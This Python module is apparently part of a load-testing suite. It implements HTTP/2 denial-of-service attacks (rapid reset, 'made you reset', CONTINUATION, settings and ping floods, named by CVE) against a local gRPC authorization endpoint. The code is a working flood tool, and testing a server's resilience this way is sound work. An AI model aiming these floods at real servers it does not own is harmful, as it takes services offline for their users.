"""A client that abuses HTTP/2 as published attacks do: streams opened and reset in a loop, and frames that cost work.

Rule: light to import; beside a measurement it is a process of its own: `python -m loadtest.abuse SHAPE PORT 8`.
"""

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

from loadtest.header_blocks import literal
from loadtest.http2 import PREFACE

CHECK_PATH = "/envoy.service.auth.v3.Authorization/Check"
_HEAD = struct.Struct(">HBBBI")
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
_LAST_STREAM = (1 << 31) - 1
_BATCH = 64
_RESET_AT_CLOSE = struct.pack("ii", 1, 0)
_BLOCK = literal(
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", CHECK_PATH),
        (":authority", "extauthz"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
)
_MESSAGE = b"\x00\x00\x00\x00\x00"  # one gRPC message of no bytes: a CheckRequest without attributes

Shape = Callable[[int], bytes]  # the frames of one round on a stream that is new


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return _HEAD.pack(len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload


def _opened(stream: int) -> bytes:
    """CVE-2023-44487, rapid reset: opened and reset, no message in between."""
    return _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_RESET, 0, stream, _CANCEL)


def _asked(stream: int) -> bytes:
    """The same with the whole question, so that the server may begin to decide it."""
    question = _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_DATA, _END_STREAM, stream, _MESSAGE)
    return question + _frame(_RESET, 0, stream, _CANCEL)


def _made(stream: int) -> bytes:
    """CVE-2025-8671, "made you reset": an error on the stream, for which the server must reset it."""
    return _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_WINDOW, 0, stream, b"\0\0\0\0")


def _continued(stream: int) -> bytes:
    """CVE-2024-27316: a header block that never ends."""
    return _frame(_HEADERS, 0, 1, _BLOCK) if stream == 1 else _frame(_CONTINUATION, 0, 1, literal([("x", "y" * 900)]))


def _settled(_stream: int) -> bytes:
    """CVE-2019-9515: settings, each of which must be acknowledged."""
    return _frame(_SETTINGS, 0, 0, b"")


def _pinged(_stream: int) -> bytes:
    """CVE-2019-9512: likewise pings."""
    return _frame(_PING, 0, 0, b"12345678")


def _dropped(stream: int) -> bytes:
    """Whole questions on connections that are reset (TCP RST) right behind them."""
    question = _frame(_HEADERS, _END_HEADERS, stream, _BLOCK)
    return question + _frame(_DATA, _END_STREAM, stream, _MESSAGE)


SHAPES: dict[str, Shape] = {
    "opened": _opened,
    "asked": _asked,
    "made": _made,
    "continued": _continued,
    "settings": _settled,
    "pings": _pinged,
    "dropped": _dropped,
}


def flood(address: tuple[str, int], shape: str, seconds: float) -> dict[str, float]:
    """Send as fast as the server reads, on one connection after the other; how many rounds went out, on how many."""
    until, rounds, connections, received = time.monotonic() + seconds, 0, 0, 0
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(address, 5) as connection:
            connections += 1
            connection.settimeout(0)
            out, stream = bytearray(PREFACE + _frame(_SETTINGS, 0, 0, b"")), 1
            while time.monotonic() < until and stream < _LAST_STREAM:
                readable, writable, _ = select.select([connection], [connection], [], 0.1)
                if readable:
                    data = connection.recv(1 << 18)
                    if not data:
                        break
                    received += len(data)
                if writable:
                    if not out:
                        for _ in range(_BATCH):
                            out += SHAPES[shape](stream)
                            stream += 2
                        rounds += _BATCH
                    del out[: connection.send(out)]
                    if shape == "dropped" and stream > 1 and not out:
                        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET_AT_CLOSE)
                        break
    return {"rounds": rounds, "connections": connections, "received_bytes": received, "seconds": seconds}


if __name__ == "__main__":
    json.dump(flood(("127.0.0.1", int(sys.argv[2])), sys.argv[1], float(sys.argv[3])), sys.stdout)
